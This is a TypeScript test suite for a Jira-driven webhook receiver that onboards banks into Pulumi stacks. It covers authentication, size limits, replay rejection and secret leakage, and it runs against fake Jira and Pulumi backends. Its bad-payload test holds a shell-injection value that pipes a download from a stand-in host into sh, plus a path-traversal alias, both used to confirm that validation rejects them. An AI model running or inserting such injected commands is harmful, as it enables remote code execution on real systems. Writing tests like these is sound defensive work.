/**
 * The webhook receiver on loopback: authentication, limits, bad payloads, replays, and concurrent
 * deliveries for the same and for different banks, with the fake Pulumi backend and a fake Jira site.
 */
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as http from "node:http";
import * as path from "node:path";
import { after, before, describe, it } from "node:test";
import { JiraClient } from "../../../scripts/lib/jira/client";
import { plainText } from "../../../scripts/lib/jira/adf";
import { TicketReporter } from "../../../scripts/lib/onboarding/comment";
import { jsonLogger } from "../../../scripts/lib/onboarding/log";
import { mappedFields, parseMapping } from "../../../scripts/lib/onboarding/mapping";
import { OnboardingDeps, OnboardingResult, precheck, runOnboarding } from "../../../scripts/lib/onboarding/pipeline";
import { JobQueue, JobRecord } from "../../../scripts/lib/onboarding/queue";
import { createReceiver, Receiver, signBody } from "../../../scripts/lib/onboarding/server";
import { recordedTicket } from "../../../scripts/lib/onboarding/stack-file";
import { FakeStackBackend } from "../../../scripts/lib/engine/fake-stack-backend";
import { FakeJira, startFakeJira } from "../../../support/fake-jira-server";
import { automationBody, tempProject, webhookBody } from "../../../support/onboarding/fixtures";
import { PROJECT_ROOT } from "../../../domain/project";

const TOKEN = "automation-token-CANARY-4d2e";
const SECRET = "webhook-secret-CANARY-77aa";
const CANARY = "CANARYsrv3b9d";
const MAX = 16 * 1024;

describe("npm run serve: the webhook receiver", () => {
    const temp = tempProject();
    const logs: string[] = [];
    let jira: FakeJira;
    let receiver: Receiver;
    let base: string;
    const fake = new FakeStackBackend({ projectDir: temp.dir, secretCanary: CANARY, cacheRenders: true, delayMs: 300 });
    const queue = new JobQueue<OnboardingResult>({ concurrency: 2, failed: (r) => r.status !== "succeeded" });

    before(async () => {
        jira = await startFakeJira("devops@dcm.example", "jira-token");
        const mapping = parseMapping(fs.readFileSync(path.join(PROJECT_ROOT, "jira-mapping.yaml"), "utf8").replace("defaults:\n", "defaults:\n  kratosDevMode: \"true\"\n  apiServerCidr: [10.0.0.1/32]\n"));
        const log = jsonLogger((l) => logs.push(l));
        const client = new JiraClient({ baseUrl: jira.url, email: "devops@dcm.example", apiToken: "jira-token" });
        const deps: OnboardingDeps = { project: temp.project, mapping, reporter: new TicketReporter(client, mapping.transitions, log), log, workspacesDir: path.join(temp.dir, "ws"), backendFor: (dir) => fake.forWorkspace(dir) };
        receiver = createReceiver({
            token: TOKEN, webhookSecret: SECRET, maxBodyBytes: MAX, queue, log, mappedFields: mappedFields(mapping),
            precheck: (d) => precheck(d, deps),
            onboard: (p) => runOnboarding(p, deps),
            reporter: new TicketReporter(client, mapping.transitions, log),
        });
        const address = await receiver.listen(0, "127.0.0.1");
        base = `http://127.0.0.1:${address.port}`;
    });
    after(async () => {
        await receiver.close(5_000);
        await jira.close();
        temp.cleanup();
    });

    const post = (body: unknown, headers: Record<string, string> = { "x-onboarding-token": TOKEN }, contentType = "application/json") =>
        fetch(`${base}/jira`, { method: "POST", headers: { "content-type": contentType, ...headers }, body: typeof body === "string" ? body : JSON.stringify(body) });
    const signed = (body: unknown, id?: string) => {
        const raw = JSON.stringify(body);
        return fetch(`${base}/jira`, { method: "POST", headers: { "content-type": "application/json", "x-hub-signature": signBody(SECRET, raw), ...(id ? { "x-atlassian-webhook-identifier": id } : {}) }, body: raw });
    };
    const job = async (id: string): Promise<JobRecord<OnboardingResult>> => (await fetch(`${base}/jobs/${id}`, { headers: { "x-onboarding-token": TOKEN } })).json() as Promise<JobRecord<OnboardingResult>>;
    /** Waits (bounded) until Jira has received `n` more comments than before. */
    const commentsAfter = async (before: number, n: number) => {
        for (let i = 0; i < 200 && jira.comments().length < before + n; i++) await new Promise((r) => setTimeout(r, 25));
        return jira.comments().slice(before).map((c) => plainText(c.body.body));
    };

    it("authenticates: no credentials, a wrong token or a bad signature is 401 and nothing happens", async () => {
        const before = temp.snapshot();
        const body = automationBody("DCMOPS-201");
        const cases: [Response, RegExp][] = [
            [await post(body, {}), /authentication required/],
            [await post(body, { "x-onboarding-token": `${TOKEN}x` }), /does not match/],
            [await post(body, { "x-hub-signature": signBody("another-secret", JSON.stringify(body)) }), /signature does not match/],
            [await post(body, { "x-hub-signature": "sha256=" }), /signature does not match/],
        ];
        for (const [res, message] of cases) {
            assert.equal(res.status, 401);
            assert.match(((await res.json()) as { error: string }).error, message);
        }
        assert.deepEqual(temp.snapshot(), before);
        assert.equal(jira.calls.length, 0);
        assert.equal(queue.stats().queued + queue.stats().running, 0);
    });

    it("refuses other methods (405), content types (415), oversized bodies (413) and unknown paths (404)", async () => {
        const get = await fetch(`${base}/jira`);
        assert.equal(get.status, 405);
        assert.equal(get.headers.get("allow"), "POST");
        assert.equal((await post("key=DCMOPS-1", undefined, "application/x-www-form-urlencoded")).status, 415);
        const big = { ...automationBody("DCMOPS-201"), padding: "x".repeat(MAX) };
        const res = await post(big);
        assert.equal(res.status, 413);
        assert.match(((await res.json()) as { error: string }).error, /at most 16384/);
        // A chunked body with no length is cut off as it streams.
        const status = await new Promise<number>((resolve, reject) => {
            const req = http.request(`${base}/jira`, { method: "POST", headers: { "content-type": "application/json", "x-onboarding-token": TOKEN, "transfer-encoding": "chunked" } }, (r) => { r.resume(); resolve(r.statusCode ?? 0); });
            req.on("error", reject);
            for (let i = 0; i < 40; i++) req.write("x".repeat(1024));
            req.end();
        });
        assert.equal(status, 413);
        assert.equal((await fetch(`${base}/admin`)).status, 404);
        assert.equal((await fetch(`${base}/jobs/00000000-0000-0000-0000-000000000000`)).status, 401);
    });

    it("rejects bad payloads with a clear message, writes nothing and comments on the ticket when there is one", async () => {
        const before = temp.snapshot();
        const comments = jira.comments().length;
        const notJson = await post("{not json");
        assert.equal(notJson.status, 400);
        assert.match(((await notJson.json()) as { error: string }).error, /not JSON/);
        const noFields = await post({ key: "DCMOPS-210" });
        assert.equal(noFields.status, 400);
        assert.match(((await noFields.json()) as { error: string }).error, /no 'fields'/);
        const cases: [Record<string, unknown>, RegExp][] = [
            [automationBody("DCMOPS-211", { alias: "x; curl evil.example | sh" }), /Jira field 'Bank alias \(customfield_10201\)' -> dcm-integration:alias: must be a DNS label/],
            [automationBody("DCMOPS-212", { alias: "../../stacks/Pulumi.demo" }), /dcm-integration:alias: must be a DNS label/],
            [automationBody("DCMOPS-213", { keyKeeperUrl: undefined }), /Jira field 'Bank authorization URL \(customfield_10204\)' -> dcm-integration:keyKeeperUrl: is empty or missing/],
            [automationBody("DCMOPS-214", { alias: "dnipro" }), /alias 'dnipro' already belongs to another bank/],
        ];
        for (const [body, message] of cases) {
            const res = await post(body);
            assert.equal(res.status, 422, String(message));
            const answer = (await res.json()) as { problems: string[] };
            assert.match(answer.problems.join("\n"), message);
        }
        const posted = await commentsAfter(comments, cases.length);
        assert.equal(posted.length, cases.length);
        cases.forEach(([, message]) => assert.ok(posted.some((p) => message.test(p)), String(message)));
        assert.deepEqual(temp.snapshot(), before, "nothing written");
        assert.equal(fake.calls.length, 0, "no stack operation");
    });

    it("answers 202 at once and runs concurrent deliveries: one job per bank at a time, banks in parallel", async () => {
        // The second delivery of DCMOPS-201 is sent after the first is acknowledged: a later signed timestamp
        // arriving first would make the earlier one a replay.
        const acks = [await signed(webhookBody("DCMOPS-201"), "delivery-1"), ...await Promise.all([
            post(automationBody("DCMOPS-202", { alias: "odesa", displayName: "Odesa Port Bank", firstEmployeeEmail: "it@odesabank.example", keyKeeperUrl: "https://keys.odesabank.example" })),
            signed(webhookBody("DCMOPS-201"), "delivery-2"),
        ])];
        assert.deepEqual(acks.map((a) => a.status), [202, 202, 202]);
        const answers = await Promise.all(acks.map(async (a) => ({ location: a.headers.get("location"), body: (await a.json()) as { jobId: string; status: string; job: string } })));
        for (const { location, body } of answers) {
            // The status is a word of the job's states; where to follow the job is its own field and the Location header.
            assert.ok(["queued", "running"].includes(body.status), `status '${body.status}' is a job state`);
            assert.equal(body.job, `/jobs/${body.jobId}`);
            assert.equal(location, body.job);
        }
        const ids = answers.map((a) => a.body.jobId);
        // Another ticket for the same alias, while its first job runs: the file exists, so it is refused at once.
        const other = await post(automationBody("DCMOPS-205"));
        assert.equal(other.status, 422);
        assert.match(((await other.json()) as { problems: string[] }).problems.join(), /alias 'lviv' already belongs to another bank: stacks\/Pulumi\.lviv\.yaml exists and was onboarded by Jira ticket DCMOPS-201/);
        for (const id of ids) await queue.wait(id);
        const [first, odesa, again] = await Promise.all(ids.map(job));

        assert.equal(first.result?.status, "succeeded");
        assert.equal(first.result?.file, "created");
        assert.equal(again.result?.status, "succeeded", "the same ticket again: the same file, deployed again, no lock conflict");
        assert.equal(again.result?.file, "unchanged");
        assert.ok(again.startedAt! >= first.finishedAt!, "jobs of one bank never overlap");
        assert.equal(odesa.result?.status, "succeeded");
        assert.ok(odesa.startedAt! < first.finishedAt! && first.startedAt! < odesa.finishedAt!, "different banks run in parallel");

        assert.equal(recordedTicket(fs.readFileSync(path.join(temp.dir, "stacks", "Pulumi.lviv.yaml"), "utf8")), "DCMOPS-201");
        assert.equal(recordedTicket(fs.readFileSync(path.join(temp.dir, "stacks", "Pulumi.odesa.yaml"), "utf8")), "DCMOPS-202");
        assert.deepEqual(fs.readdirSync(path.join(temp.dir, "ws")).sort(), ["lviv", "odesa"], "a workspace per stack");
        assert.deepEqual(fake.deployedStacks, ["lviv", "odesa"]);
    });

    it("ignores webhook events that are not onboarding triggers, such as the comment it posts itself", async () => {
        const jobsBefore = queue.stats();
        const commentEvent = { ...webhookBody("DCMOPS-201"), webhookEvent: "comment_created", comment: { body: "Bank 'lviv' rolled out" } };
        const commented = { ...webhookBody("DCMOPS-201"), webhookEvent: "jira:issue_updated", issue_event_type_name: "issue_commented" };
        const statusOnly = { ...webhookBody("DCMOPS-201"), webhookEvent: "jira:issue_updated", changelog: { items: [{ field: "status", fieldId: "status", toString: "Done" }] } };
        for (const body of [commentEvent, commented, statusOnly]) {
            const res = await signed(body);
            assert.equal(res.status, 200);
            assert.match(((await res.json()) as { ignored: string }).ignored, /does not start onboarding|changed none of the onboarding fields/);
        }
        const fieldChange = { ...webhookBody("DCMOPS-206", { alias: "dnipro" }), webhookEvent: "jira:issue_updated", changelog: { items: [{ field: "Bank alias", fieldId: "customfield_10201", toString: "dnipro" }] } };
        assert.equal((await signed(fieldChange)).status, 422, "an update of a mapped field is a delivery like any other");
        assert.deepEqual(queue.stats(), jobsBefore);
    });

    it("ignores a replayed delivery (409) and leaks no secret into jobs, comments or logs", async () => {
        const replay = await signed(webhookBody("DCMOPS-201"), "delivery-1");
        assert.equal(replay.status, 409);
        assert.match(((await replay.json()) as { error: string }).error, /delivery delivery-1 was already received \(job [0-9a-f-]{36}\); a replay is ignored/);
        const health = (await (await fetch(`${base}/healthz`)).json()) as { status: string; queued: number; running: number };
        assert.deepEqual([health.status, health.queued, health.running], ["ok", 0, 0]);
        const everything = [...logs, ...jira.calls.map((c) => c.text)].join("\n");
        for (const secret of [CANARY, TOKEN, SECRET, "PRIVATE KEY"]) assert.ok(!everything.includes(secret), secret);
        assert.ok(logs.some((l) => JSON.parse(l).msg === "request" && JSON.parse(l).status === 202));
    });
});
